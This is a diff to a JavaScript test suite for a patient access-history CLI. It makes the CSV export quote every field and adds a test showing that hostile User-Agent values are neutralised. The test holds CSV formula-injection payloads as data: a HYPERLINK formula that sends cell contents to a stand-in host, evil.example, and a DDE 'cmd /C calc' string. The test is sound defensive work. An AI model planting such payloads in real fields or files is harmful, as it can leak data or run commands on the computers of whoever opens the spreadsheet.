@@ -248,9 +248,9 @@ describe('access history: append-only, erased with the patient, exported by the 
     const csv = cli('--patient', patient.patientId, '--format', 'csv');
     expect(csv.status).toBe(0);
     const rows = csv.stdout.trim().split('\n');
-    expect(rows[0]).toBe('id,fecha,paciente_id,tipo,accion,usuario_id,usuario_nombre,usuario_rol,metodo,ruta,estado_http,exito,ip,agente');
+    expect(rows[0]).toBe('"id","fecha","paciente_id","tipo","accion","usuario_id","usuario_nombre","usuario_rol","metodo","ruta","estado_http","exito","ip","agente"');
     expect(rows).toHaveLength(6);
-    expect(rows[4]).toContain(`,GET,${API}/pacientes/${patient.patientId},200,true,`);
+    expect(rows[4]).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);
 
     const future = cli('--from', '2999-01-01');
     expect(future.status).toBe(0);
@@ -259,6 +259,31 @@ describe('access history: append-only, erased with the patient, exported by the 
     expect(cli('--patient', 'x').stderr).toContain('--patient: expected a patient id');
     expect(cli('--from', 'ayer').stderr).toContain('--from: expected an ISO 8601 date');
     expect(cli('--format', 'xml').stderr).toContain('--format: expected jsonl or csv');
+  });
+
+  it('writes a hostile User-Agent into the CSV as text a spreadsheet does not run', async () => {
+    const me = await therapistSession('Dra. Hoja de Cálculo');
+    const patient = await signedInPatient(me);
+    const hostile = ['Mozilla/5.0;=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'];
+    for (const agent of hostile) await api().get(`${API}/pacientes/${patient.patientId}`).set(bearer(me.token)).set('user-agent', agent).expect(200);
+    const csv = runCli(['access-history:export', '--patient', patient.patientId, '--format', 'csv'], {
+      DATABASE_URL: testEnv().databaseUrl,
+      JWT_SECRET: testEnv().jwtSecret,
+      NODE_ENV: 'test',
+    });
+    expect(csv.status).toBe(0);
+    const agents = csv.stdout
+      .trim()
+      .split('\n')
+      .slice(-3)
+      .map((row) => row.slice(row.lastIndexOf(',"') + 1));
+    expect(agents).toEqual([
+      `"Mozilla/5.0;'=HYPERLINK(""http://evil.example/?""&A1)"`,
+      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+      `"'-2+3"`,
+    ]);
+    // Our own numbers stay numbers (the status), in quotes like every field.
+    expect(csv.stdout).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);
   });
 });
 
